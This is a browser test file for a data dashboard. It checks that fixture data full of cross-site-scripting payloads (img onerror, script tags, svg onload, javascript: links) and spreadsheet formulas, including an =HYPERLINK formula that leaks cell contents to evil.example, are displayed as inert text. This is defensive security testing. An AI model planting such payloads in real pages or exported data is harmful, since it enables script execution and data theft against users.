import path from 'node:path';
import type { Page } from 'playwright-core';
import { afterEach, describe, expect, it } from 'vitest';
import { browserAvailable, screenshot } from './support/browser.ts';
import { repoRoot } from './support/server.ts';
import { browserSession } from './support/session.ts';

/** A valid data folder whose every text is markup, script or a formula: see its README. */
const HOSTILE_DATA_DIR = path.join(repoRoot, 'tests/fixtures/hostile-data');

/** Elements the data's markup would have made, had any of it been parsed as HTML. */
const INJECTED = [
  // The page's data is JSON in a script element the server writes (its text is escaped): never run.
  'script:not([src]):not([type="application/json"]#bd-page-data)',
  'img[src="x"]',
  'iframe',
  // The build's style sheet, written into the head by the server (view-assets.ts), is the page's own.
  'style:not(head > style[data-sheet])',
  '[onerror]',
  '[onload]',
  '[onmouseover]',
  'a[href^="javascript:"]',
].join(', ');

/** What every view must hold afterwards: text shown as text, and nothing run. */
interface PageRecord {
  dialogs: string[];
  errors: string[];
}

describe.skipIf(!browserAvailable)('text from hostile data files is shown as text, and runs nothing', () => {
  const session = browserSession({ dataDir: HOSTILE_DATA_DIR });
  let page: Page;
  let record: PageRecord;

  async function open(address: string): Promise<Page> {
    const current: PageRecord = { dialogs: [], errors: [] };
    record = current;
    page = await session.open(address, {
      before: async (opened) => {
        opened.on('dialog', (dialog) => {
          current.dialogs.push(dialog.message());
          void dialog.dismiss();
        });
        opened.on('pageerror', (error) => current.errors.push(String(error)));
        await opened.addInitScript(() => {
          const scope = window as unknown as { __violations: string[] };
          scope.__violations = [];
          document.addEventListener('securitypolicyviolation', (event) => {
            scope.__violations.push(
              `${event.violatedDirective}: ${event.sample || event.blockedURI} ${event.sourceFile}:${event.lineNumber}:${event.columnNumber}`,
            );
          });
        });
      },
    });
    return page;
  }

  /** The text of the main region once it holds `text`, which the data holds as a literal string. */
  async function expectVisibleText(text: string) {
    await expect.poll(() => page.locator('main').innerText(), { timeout: 10_000 }).toContain(text);
  }

  afterEach(async () => {
    if (!session.context) return;
    await page.waitForLoadState('networkidle');
    const state = await page.evaluate(
      (selector) => ({
        pwned: (window as unknown as { __pwned?: unknown }).__pwned,
        violations: (window as unknown as { __violations: string[] }).__violations,
        injected: Array.from(document.querySelectorAll(selector), (element) => element.outerHTML.slice(0, 120)),
      }),
      INJECTED,
    );
    expect(state.pwned, 'window.__pwned was set: a script from the data ran').toBeUndefined();
    expect(state.injected, 'markup from the data became elements').toEqual([]);
    expect(state.violations, 'the page tried to run something the CSP blocked').toEqual([]);
    expect(record.dialogs).toEqual([]);
    expect(record.errors).toEqual([]);
  });

  it('overview: indicator names and values as text', async () => {
    await open('/');
    await page.getByTestId('indicator-card').first().waitFor();
    await expectVisibleText('Partner localities <img src=x onerror="window.__pwned=1">');
    await expectVisibleText('=HYPERLINK("https://evil.example/?leak="&A1,"FDI attracted")');
    await screenshot(page, 'hostile-overview');
  });

  it('indicator view: the name, note and a pinned citation with its evidence', async () => {
    await open('/indicators/partner_localities');
    await page.getByTestId('chart-point').first().waitFor();
    // The server's drawing is replaced by the live chart, whose marks can be pinned.
    await page.locator('.recharts-wrapper').first().waitFor();
    await expectVisibleText('Partner localities <img src=x onerror="window.__pwned=1">');
    await expectVisibleText('javascript:window.__pwned=1');
    await page.getByTestId('chart-point').last().click();
    await expect
      .poll(() => page.getByTestId('citation-panel').innerText())
      .toContain('<img src=x onerror="window.__pwned=1"> relations with 14 foreign localities');
    await screenshot(page, 'hostile-indicator');
  });

  it('indicator view as a table: sources and notes as text', async () => {
    await open('/indicators/partner_localities');
    await page.getByRole('button', { name: 'Table' }).click();
    await page.getByRole('table').waitFor();
    await expect.poll(() => page.getByRole('table').innerText()).toContain('@SUM(1+1) <img src=x onerror="window.__pwned=1">');
  });

  it('sources: titles, evidence and the article links as given', async () => {
    await open('/sources');
    await expectVisibleText('<script>window.__pwned=1</script> Binh Duong "partners", with a comma');
    await expectVisibleText('Bình Dương: <b>đối ngoại</b> & "đầu tư" <script>window.__pwned=1</script>');
    const hrefs = await page.locator('main a[href^="http"]').evaluateAll((links) => links.map((a) => a.getAttribute('href')));
    expect(hrefs).toContain('https://example.org/news?q=<script>window.__pwned=1</script>&t="x"');
    await screenshot(page, 'hostile-sources');
  });

  it('timeline: event names and evidence as text', async () => {
    await open('/timeline');
    await expectVisibleText('<svg onload="window.__pwned=1">Kumamoto</svg>');
    await expectVisibleText('=1+1 Investment conference');
  });

  it('presenter: the slide title as text', async () => {
    await open('/?present=1&slide=1');
    await page.getByTestId('slide').waitFor();
    await expect.poll(() => page.getByTestId('slide').innerText()).toContain('<img src=x onerror="window.__pwned=1">');
    await screenshot(page, 'hostile-present');
  });

  it('Tiếng Việt: the Vietnamese names as text, diacritics intact', async () => {
    await open('/indicators/partner_localities?lang=vi');
    await page.getByTestId('chart-point').first().waitFor();
    await expectVisibleText('Địa phương kết nghĩa <script>window.__pwned=1</script>');
  });

  it('embed: the chart, its title and source line as text', async () => {
    await open('/embed/partner_localities');
    await expect
      .poll(() => page.locator('body').innerText(), { timeout: 10_000 })
      .toContain('Partner localities <img src=x onerror="window.__pwned=1">');
  });

  it('checks: loads and runs nothing', async () => {
    await open('/checks');
    await page.locator('main h1').first().waitFor();
  });

  it('API reference page: loads and runs nothing', async () => {
    await open('/api/docs');
    await page.locator('h1').first().waitFor();
    expect(await page.locator('body').innerText()).toContain('/api/observations');
  });
});
